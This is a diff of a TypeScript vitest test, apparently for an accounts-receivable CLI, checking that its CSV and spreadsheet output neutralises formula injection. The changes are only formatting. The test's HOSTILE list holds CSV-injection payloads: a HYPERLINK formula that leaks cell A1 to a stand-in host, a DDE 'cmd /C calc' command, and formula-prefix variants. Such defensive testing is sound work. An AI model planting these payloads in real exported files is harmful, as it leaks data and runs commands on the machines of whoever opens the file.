@@ -1,4 +1,3 @@
-
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
@@ -11,7 +10,7 @@ import { inspectWorkbook } from '../helpers/sheets.ts';
  * that `ar` writes is read back as a spreadsheet program would read it.
  */
 
-const HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=2+2', '=cmd|\' /C calc\'!A0'] as const;
+const HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=2+2', "=cmd|' /C calc'!A0"] as const;
 const FORMULA_START = /^[=+\-@\t\r]/;
 /** The import trims a cell (a leading tab or CR is gone before any output: `csvField` is tested on them in test/render). */
 const kept = (s: string) => s.trim();
@@ -32,8 +31,7 @@ beforeAll(() => {
   dir = tempDir('ar-formula-');
   writeFiles(dir, { 'factures.csv': INVOICES, 'clients.csv': CUSTOMERS, 'reglements.csv': PAYMENTS });
 });
-const run = (cmd: string, args: string[]) =>
-  arInProcess([cmd, 'factures.csv', '--payments', 'reglements.csv', '--customers', 'clients.csv', '--as-of', '2026-10-31', ...args], { cwd: dir });
+const run = (cmd: string, args: string[]) => arInProcess([cmd, 'factures.csv', '--payments', 'reglements.csv', '--customers', 'clients.csv', '--as-of', '2026-10-31', ...args], { cwd: dir });
 
 /** Every text field of a CSV is safe to open in a spreadsheet; the payload is there behind the apostrophe. */
 function expectNeutralCsv(csv: string, textColumns: readonly string[], numberColumns: readonly string[]) {
